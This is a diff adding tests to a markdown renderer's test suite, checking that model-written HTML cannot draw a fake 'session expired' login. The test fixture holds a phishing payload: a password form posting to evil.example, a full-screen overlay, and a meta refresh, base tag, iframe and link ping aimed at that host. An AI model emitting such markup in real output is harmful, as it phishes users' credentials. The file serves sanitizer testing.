@@ -24,4 +24,42 @@ describe('renderMarkdown', () => {
   it('shows an unclosed fence (mid-stream) as code', () => {
     expect(renderMarkdown('Here:\n```bash\necho hi')).toContain('<pre class="code">');
   });
+
+  describe('a fake login drawn by the model (issue 12.8)', () => {
+    const hostile = [
+      '<form action="https://evil.example/steal" method="post"><label>Session expired, sign in</label>',
+      '<input type="password" name="pw" autofocus><input type="submit" value="Sign in"><button formaction="https://evil.example/b">Go</button>',
+      '<select><option>x</option></select><textarea>t</textarea></form>',
+      '<style>body{visibility:hidden} .fake{visibility:visible}</style>',
+      '<div style="position:fixed;inset:0;background:#000" class="auth-page fake">overlay</div>',
+      '<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css"><meta http-equiv="refresh" content="0;url=https://evil.example">',
+      '<iframe src="https://evil.example"></iframe><object data="x"></object><embed src="x"><dialog open>d</dialog>',
+      '<a href="https://example.com" target="_self" ping="https://evil.example/p">link</a>',
+    ].join('\n');
+
+    it('drops forms, controls, styles, base, frames and foreign classes, keeping the text', () => {
+      const html = renderMarkdown(`Hello\n\n${hostile}`);
+      expect(html).not.toMatch(/<(form|input|button|select|option|textarea|label|style|base|link|meta|iframe|object|embed|dialog)\b/i);
+      expect(html).not.toMatch(/\s(style|action|formaction|method|ping|autofocus)=/i);
+      expect(html).not.toMatch(/auth-page|fake/);
+      expect(html).toContain('overlay');
+      expect(html).toContain('Session expired, sign in');
+      // links still open in a new tab with no opener, whatever target the markup asked for
+      expect(html).toContain('target="_blank"');
+      expect(html).not.toContain('_self');
+    });
+
+    it('leaves no form control in the parsed DOM either (mutation-safe)', () => {
+      const host = document.createElement('div');
+      host.innerHTML = renderMarkdown(hostile);
+      expect(host.querySelectorAll('form, input, button, select, textarea, style, base, iframe, [style]').length).toBe(0);
+    });
+
+    it('keeps the classes of highlighted code', () => {
+      const html = renderMarkdown('```ts\nfunction f() { return 1 }\n```');
+      expect(html).toContain('class="hljs language-ts"');
+      // highlight.js versions differ in the scope suffix (`function_`); both must survive.
+      expect(html).toMatch(/<span class="hljs-title( function_)?">f<\/span>/);
+    });
+  });
 });
